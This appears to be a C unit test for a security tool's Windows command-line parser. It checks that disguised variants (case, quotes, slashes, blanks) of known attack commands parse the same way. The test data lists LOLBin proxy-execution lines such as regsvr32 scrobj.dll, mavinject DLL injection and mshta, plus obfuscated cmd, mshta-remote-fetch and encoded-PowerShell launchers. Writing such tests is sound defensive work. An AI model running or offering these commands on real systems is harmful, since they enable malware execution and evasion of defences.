/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A line means the same in another disguise (docs/detections 2.4): letter case, blanks, `/` for
 * `-`, quotes inside tokens, doubled and turned slashes, folders that `..` cancels. PAW_SEED
 * repeats a run; the seed is printed.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "common/command_check.h"
#include "common/grammars.h"
#include "core/str.h"
#include "windows/command.h"
#include "windows/path.h"

enum { VARIANTS = 400, ROOM = 4096 };

static const char *const lines[] = {
    "regsvr32.exe /s /u /i:C:\\Users\\Public\\file.sct scrobj.dll",
    "regsvr32.exe /s C:\\ProgramData\\Media\\codecpack.ax",
    "regsvr32.exe -s -n \"C:\\My Files\\a.dll\"",
    "rundll32.exe C:\\Users\\Public\\payload.dll,EntryPoint one two",
    "rundll32.exe \"C:\\My Files\\payload.dll\",#12 one",
    "rundll32 advpack.dll, LaunchINFSection C:\\Users\\Public\\x.inf,,1,",
    "mshta.exe C:\\Users\\alice\\Downloads\\invoice.hta",
    "msiexec /q /i C:\\Users\\Public\\a.msi REBOOT=ReallySuppress",
    "msiexec /x {90160000-008C-0000-1000-0000000FF1CE} /qn",
    "msiexec.exe /y C:\\Users\\Public\\reg.dll",
    "cmstp.exe /ni /s C:\\Users\\alice\\AppData\\Local\\Temp\\corp.inf",
    "control.exe C:\\Users\\Public\\panel.cpl",
    "hh.exe C:\\Users\\Public\\a.chm",
    "InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\AllTheThings.dll",
    "regasm.exe /u C:\\Users\\Public\\AllTheThingsx64.dll",
    "regsvcs.exe C:\\Users\\Public\\AllTheThingsx64.dll /nologo",
    "odbcconf.exe /S /A {REGSVR C:\\Users\\Public\\file.dll}",
    "odbcconf -f C:\\Users\\Public\\file.rsp",
    "mavinject.exe 3110 /INJECTRUNNING C:\\Users\\Public\\evil.dll",
    "verclsid.exe /S /C {5E941D80-BF96-11CD-B579-08002B30BFEB}",
    "mmc.exe C:\\Users\\Public\\console.msc",
};

static uint64_t state;

static unsigned roll(unsigned n)
{
    state = state * UINT64_C(6364136223846793005) + UINT64_C(1442695040888963407);
    return (unsigned)(state >> 33) % n;
}

struct variant {
    char text[ROOM];
    size_t n;
};

static void put(struct variant *v, char c)
{
    assert_true(v->n < ROOM);
    v->text[v->n++] = c;
}

static char random_case(char c)
{
    if (roll(2) == 0)
        return c;
    if (c >= 'a' && c <= 'z')
        return (char)(c - 'a' + 'A');
    return paw_lower(c);
}

static bool in_span(struct paw_span s, size_t at)
{
    return at >= s.start && at - s.start < s.length;
}

static bool is_letter(char c)
{
    return paw_lower(c) >= 'a' && paw_lower(c) <= 'z';
}

/* Quotes may stand anywhere in a token of these. */
static bool takes_quotes(const struct paw_grammar *g)
{
    return g->split == PAW_SPLIT_ARGV || g->split == PAW_SPLIT_CRT ||
           g->split == PAW_SPLIT_REGSVR32;
}

static void put_letter(struct variant *v, char c, bool quotes)
{
    const char before = v->text[v->n - 1]; /* `\"` and `""` would mean something else */
    const bool now = quotes && is_letter(c) && roll(8) == 0 && before != '\\' && before != '"';
    if (now)
        put(v, '"');
    put(v, random_case(c));
    if (now)
        put(v, '"');
}

static void put_slash(struct variant *v)
{
    static const char *const forms[] = {"\\", "\\\\", "/", "\\x.y\\..\\", "\\.\\", "\\\\\\"};
    for (const char *s = forms[roll(PAW_COUNT_OF(forms))]; *s != '\0'; s++)
        put(v, *s);
}

static const struct paw_found_switch *switch_at(const struct paw_command *c, size_t at)
{
    for (size_t i = 0; i < c->n_switches; i++)
        if (in_span(c->switches[i].span, at))
            return &c->switches[i];
    return NULL;
}

static bool in_token(const struct paw_command *c, size_t at, bool *quoted)
{
    *quoted = false;
    for (size_t i = 0; i < c->n_tokens; i++)
        if (in_span(c->tokens[i].span, at)) {
            *quoted = c->tokens[i].is_quoted;
            return true;
        }
    return in_span(c->argv0.span, at);
}

static void put_switch(struct variant *v, const struct paw_command *c,
                       const struct paw_found_switch *s, const struct paw_grammar *g, size_t at)
{
    const char ch = c->line.p[at];
    if (at == s->span.start && (ch == '/' || ch == '-'))
        put(v, roll(2) == 0 ? '/' : '-');
    else
        put_letter(v, ch, takes_quotes(g));
}

static void disguise(const struct paw_command *c, const struct paw_grammar *g, struct variant *v)
{
    const bool path = c->target.norm.n > 3 && c->target.norm.p[1] == ':';
    v->n = 0;
    for (size_t at = 0; at < c->line.n; at++) {
        const char ch = c->line.p[at];
        bool quoted = false;
        const bool token = in_token(c, at, &quoted);
        const struct paw_found_switch *s = switch_at(c, at);
        if (in_span(c->argv0.span, at)) {
            put(v, random_case(ch));
        } else if (in_span(c->target.span, at)) {
            if (ch == '\\' && path)
                put_slash(v);
            else
                put_letter(v, ch, takes_quotes(g) && !quoted);
        } else if (s != NULL && !in_span(s->value_span, at) && !quoted) {
            put_switch(v, c, s, g, at);
        } else {
            put(v, ch);
            const bool verbatim = in_span(c->call.args_span, at);
            while (!token && !verbatim && ch == ' ' && roll(3) == 0)
                put(v, roll(2) == 0 ? ' ' : '\t');
        }
    }
}

static bool overlaps(struct paw_span a, struct paw_span b)
{
    return a.length != 0 && b.length != 0 && a.start < b.start + b.length &&
           b.start < a.start + a.length;
}

static const char *difference(const struct paw_command *a, const struct paw_command *b)
{
    if (!paw_str_equal(a->program, b->program))
        return "program";
    if (a->n_switches != b->n_switches || a->n_operands != b->n_operands)
        return "number of switches or operands";
    for (size_t i = 0; i < a->n_switches; i++) {
        if (a->switches[i].name != b->switches[i].name)
            return "switch";
        if (!overlaps(a->switches[i].value_span, a->target.span) &&
            !paw_str_equal(a->switches[i].value, b->switches[i].value))
            return "value";
    }
    if (!paw_path_same(a->target.norm, b->target.norm))
        return "target";
    if (a->target.class != b->target.class || a->kind != b->kind)
        return "class of the target";
    if (!paw_str_equal(a->call.name, b->call.name) ||
        !paw_str_equal(a->call.export, b->call.export) || a->call.ordinal != b->call.ordinal ||
        !paw_str_equal(a->call.args, b->call.args))
        return "call";
    return a->form == b->form ? NULL : "form";
}

static void variants(void **unused)
{
    (void)unused;
    const struct paw_line_context context = {0};
    struct paw_arena base_arena, arena;
    struct variant v;
    paw_arena_init(&base_arena, SIZE_MAX);
    paw_arena_init(&arena, SIZE_MAX);
    for (size_t i = 0; i < PAW_COUNT_OF(lines); i++) {
        const paw_str line = paw_str_of(lines[i]);
        const struct paw_grammar *g = test_grammar_find(paw_command_program(line, &base_arena));
        struct paw_command base, other;
        assert_non_null(g);
        assert_int_equal(paw_command_parse(line, g, &context, &base_arena, &base), PAW_OK);
        for (unsigned k = 0; k < VARIANTS; k++) {
            paw_arena_reset(&arena);
            disguise(&base, g, &v);
            const paw_str text = {v.text, v.n};
            assert_int_equal(paw_command_parse(text, g, &context, &arena, &other), PAW_OK);
            const char *what = difference(&base, &other);
            if (what == NULL)
                what = test_command_fault(&other);
            if (what != NULL)
                fail_msg("%s differs\n  %s\n  %.*s", what, lines[i], (int)v.n, v.text);
        }
    }
    paw_arena_finish(&arena);
    paw_arena_finish(&base_arena);
}

/* A line cut anywhere still parses, and what is kept keeps its relations. */
static void cuts(void **unused)
{
    (void)unused;
    struct paw_arena arena;
    const struct paw_line_context context = {0};
    paw_arena_init(&arena, SIZE_MAX);
    for (size_t i = 0; i < PAW_COUNT_OF(lines); i++) {
        const paw_str line = paw_str_of(lines[i]);
        const struct paw_grammar *g = test_grammar_find(paw_command_program(line, &arena));
        for (size_t n = 0; n <= line.n; n++) {
            struct paw_command c;
            paw_arena_reset(&arena);
            assert_int_equal(paw_command_parse(paw_str_sub(line, 0, n), g, &context, &arena, &c),
                             PAW_OK);
            if (test_command_fault(&c) != NULL)
                fail_msg("%s: %.*s", test_command_fault(&c), (int)n, line.p);
        }
    }
    paw_arena_finish(&arena);
}

/* With any budget the parser answers or says that memory is short. */
static void budgets(void **unused)
{
    (void)unused;
    static const char *const launchers[] = {
        "cmd /c s^tart \"\" mshta https://h.example/a & %ComSpec:~0,3%x",
        "powershell -enc cgB1AG4AZABsAGwAMwAyACAAQwA6AFwAVQBzAGUA",
        "regsvr32 /\"s\" \"C:\\a \"b\\c.dll",
    };
    static char padding[70 * 1024];
    memset(padding, 'x', sizeof(padding));
    for (size_t i = 0; i < PAW_COUNT_OF(launchers); i++)
        for (size_t budget = 0; budget < 600 * 1024; budget += 32 * 1024) {
            struct paw_arena arena;
            struct paw_command c;
            const struct paw_line_context context = {0};
            paw_arena_init(&arena, SIZE_MAX);
            const paw_str line = paw_arena_join(&arena, paw_str_of(launchers[i]),
                                                (paw_str){padding, sizeof(padding)});
            struct paw_arena small;
            paw_arena_init(&small, budget);
            const struct paw_grammar *g = test_grammar_find(paw_command_program(line, &arena));
            const enum paw_status status = paw_command_parse(line, g, &context, &small, &c);
            assert_true(status == PAW_OK || status == PAW_E_MEMORY);
            assert_true(status != PAW_OK || test_command_fault(&c) == NULL);
            paw_arena_finish(&small);
            paw_arena_finish(&arena);
        }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(variants),
        cmocka_unit_test(cuts),
        cmocka_unit_test(budgets),
    };
    const char *seed = getenv("PAW_SEED");
    state = 20240229;
    if (seed != NULL && !paw_str_u64(paw_str_of(seed), &state))
        (void)fprintf(stderr, "PAW_SEED is no number\n");
    printf("PAW_SEED=%llu\n", (unsigned long long)state);
    return cmocka_run_group_tests(tests, NULL, NULL);
}
